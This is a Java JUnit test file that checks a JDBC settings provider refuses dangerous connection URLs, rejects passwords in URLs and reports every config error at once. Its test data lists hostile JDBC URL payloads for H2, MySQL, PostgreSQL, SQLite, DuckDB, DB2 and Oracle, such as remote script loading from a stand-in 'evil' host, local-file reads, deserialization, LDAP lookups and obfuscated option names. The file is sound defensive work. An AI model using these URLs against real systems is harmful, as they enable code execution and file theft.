package dev.stillson.jdbc;

import dev.stillson.testkit.MapSettings;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.stillson.store.SettingsException;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileOptionsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;MODE=MySQL;ınit=CREATE ALIAS",
        "jdbc:h2:mem:x;I\\NIT=CREATE ALIAS",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:mysql://evil/x?allowLoadLocalInfile=true",
        "jdbc:mysql://evil/x?a=b&allow%4coadLocalInfile=true",
        "jdbc:mysql://(host=evil,autoDeserialize=true)/x",
        "jdbc:mysql://evil/x?queryInterceptors=com.x",
        "jdbc:mariadb://evil/x?allowLocalInfile=true",
        "jdbc:postgresql://evil/x?socketFactory=org.springframework.X&socketFactoryArg=http://evil",
        "jdbc:postgresql://evil/x?SSLFACTORY=x",
        "jdbc:postgresql://evil/x?authenticationPluginClassName=x",
        "jdbc:postgresql://evil/x?loggerLevel=DEBUG&loggerFile=/tmp/x.jsp",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:sqlite:x.db?enable_load_extension=true",
        "jdbc:duckdb:x.db;session_init_sql_file=/tmp/x.sql",
        "jdbc:duckdb:x.db;allow_unsigned_extensions=true",
        "jdbc:db2://evil/x:clientRerouteServerListJNDIName=ldap://evil;",
        "jdbc:oracle:thin:@ldap://evil/x",
      })
  void urlsThatRunCodeOrReadFilesAreRefused(String url) {
    assertThatThrownBy(() -> open(Map.of("x.url", url)))
        .isInstanceOf(SettingsException.class)
        .hasMessageContaining("refused")
        .hasMessageNotContaining("evil");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://host/x?user=a&password=hunter2",
        "jdbc:postgresql://a:hunter2@host/x",
        "jdbc:sqlserver://host;user=a;pwd=hunter2",
      })
  void aPasswordInAUrlIsRefusedAndNotRepeated(String url) {
    assertThatThrownBy(() -> open(Map.of("x.url", url)))
        .isInstanceOf(SettingsException.class)
        .hasMessageContaining("password")
        .hasMessageNotContaining("hunter2");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.example:5432/warehouse?sslmode=verify-full&ApplicationName=nightly",
        "jdbc:sqlite:data/sales.db",
        "jdbc:duckdb:",
        "jdbc:mysql://host/x?allowLoadLocalInfile=false&useSSL=true",
        "jdbc:h2:file:./x;MODE=PostgreSQL",
      })
  void honestUrlsPass(String url) {
    assertThat(open(Map.of("x.url", url))).isNotNull();
  }

  @Test
  void optionsAreCheckedTooAndAllProblemsAreToldAtOnce() {
    assertThatThrownBy(() ->
            open(
                Map.of(
                    "a.url",
                    "jdbc:postgresql://h/x",
                    "a.options.socketFactory",
                    "x",
                    "b.url",
                    "postgresql://h/x",
                    "c.user",
                    "someone",
                    "d.url",
                    "jdbc:duckdb:",
                    "d.pool",
                    "1",
                    "e.url",
                    "jdbc:sqlite::memory:")))
        .isInstanceOf(SettingsException.class)
        .hasMessageContaining("[a.options.socketFactory]")
        .hasMessageContaining("[b.url] must begin with jdbc:")
        .hasMessageContaining("[c.url] is missing")
        .hasMessageContaining("[d.pool] must be at least 2")
        .hasMessageContaining("[e.url] names no file");
  }

  private static Object open(Map<String, String> values) {
    return new JdbcProvider().open(MapSettings.of(Path.of("."), values));
  }
}
